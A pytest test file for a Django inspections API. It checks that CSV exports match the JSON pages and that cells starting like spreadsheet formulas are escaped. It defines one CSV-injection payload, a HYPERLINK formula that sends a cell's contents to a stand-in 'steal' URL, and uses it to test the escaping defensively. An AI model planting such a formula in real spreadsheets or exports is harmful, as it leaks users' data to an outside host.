"""CSV = JSON: every list read as CSV (`?format=csv` and `Accept: text/csv`), with Python's csv
module and with pandas, holds the rows the JSON cursor pages hold, column for column, as strings;
and a cell a spreadsheet would run as a formula is neutralised.
"""

from __future__ import annotations

import csv
import io

import pandas
import pytest
from django.utils import timezone

from api import csv as api_csv
from inspections.models import Inspection, Recommendation

from ..factories import set_publication
from .conftest import ANALYST, PUBLISHED_LONDON, api_client, csv_text, json_rows, list_paths, required_query, schema

FORMULA = '=HYPERLINK("http://example.test/steal?"&A1,"Click")'


def as_cell(value) -> str:
    """A JSON value as the CSV writes it: empty for null, true/false, formulas neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r")):
        return "'" + value
    return str(value)


def is_flat(rows: list[dict]) -> bool:
    return all(not isinstance(v, dict | list) for row in rows for v in row.values())


def read_csv(text: str) -> tuple[list[str], list[list[str]]]:
    header, *rows = list(csv.reader(io.StringIO(text)))
    return header, rows


def read_pandas(text: str) -> tuple[list[str], list[list[str]]]:
    frame = pandas.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    return list(frame.columns), frame.values.tolist()


def test_the_answers_csv_holds_the_rows_of_the_json_pages(world):
    client = api_client(ANALYST)
    rows, pages = json_rows(client, "/api/v1/answers/", {"page_size": 1000})
    assert len(pages) > 3 and len(rows) > 3000
    columns = list(rows[0])
    expected = [[as_cell(row[c]) for c in columns] for row in rows]
    for text in (csv_text(client, "/api/v1/answers/"), csv_text(client, "/api/v1/answers/", accept=True)):
        assert read_csv(text) == (columns, expected)
        assert read_pandas(text) == (columns, expected)
    # A filter narrows the CSV as it narrows the JSON.
    query = {"inspection": "SW-DOR-2023", "question": "2.2.3"}
    filtered = [[as_cell(row[c]) for c in columns] for row in json_rows(client, "/api/v1/answers/", query)[0]]
    assert filtered and read_csv(csv_text(client, "/api/v1/answers/", query)) == (columns, filtered)


def test_every_list_s_csv_holds_the_rows_of_its_json(world):
    client = api_client(ANALYST)
    openapi = schema()
    compared = []
    for path in list_paths(openapi):
        query = required_query(openapi, path)
        rows, _ = json_rows(client, path, {**query, "page_size": 50})
        text = csv_text(client, path, query)
        assert read_csv(text) == read_pandas(text), path
        assert text == csv_text(client, path, query, accept=True), path
        if not rows or not is_flat(rows):
            continue  # nested rows (a framework's bands, an inspection's ratings) are flattened their own way
        columns = list(rows[0])
        assert read_csv(text) == (columns, [[as_cell(row[c]) for c in columns] for row in rows]), path
        compared.append(path)
    assert {"/api/v1/answers/", "/api/v1/case-reviews/", "/api/v1/inspections/", "/api/v1/regions/"} <= set(compared)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_neutralised(start):
    text = "".join(api_csv.lines(["text", "number"], [[f"{start}1+1", -3], ["plain", 2]]))
    assert read_csv(text) == (["text", "number"], [[f"'{start}1+1", "-3"], ["plain", "2"]])


def test_a_recommendation_written_as_a_formula_reaches_a_spreadsheet_as_text(world):
    inspection = Inspection.objects.get(reference=PUBLISHED_LONDON)
    set_publication(inspection, unlocked_at=timezone.now())
    Recommendation.objects.create(inspection=inspection, addressee="pdu", text=FORMULA, order=1)
    set_publication(inspection, unlocked_at=None)
    client = api_client(ANALYST)
    path = "/api/v1/recommendations/"
    if path not in schema()["paths"]:
        pytest.skip("no recommendations resource")
    query = {"inspection": PUBLISHED_LONDON}
    assert [row["text"] for row in json_rows(client, path, query)[0]] == [FORMULA]
    for text in (csv_text(client, path, query), csv_text(client, path, query, accept=True)):
        header, rows = read_csv(text)
        assert [row[header.index("text")] for row in rows] == ["'" + FORMULA]
        assert read_pandas(text)[1][0][header.index("text")] == "'" + FORMULA


def test_csv_times_are_utc_with_a_z_as_in_the_json_in_summer_too():
    import datetime as dt

    from rest_framework.utils.encoders import JSONEncoder

    from api.csv import lines

    summer = dt.datetime(2023, 7, 1, 12, 0, tzinfo=dt.UTC)
    text = "".join(lines(["updated_at"], [[summer]]))
    assert text.splitlines()[1] == JSONEncoder().default(summer) == "2023-07-01T12:00:00Z"
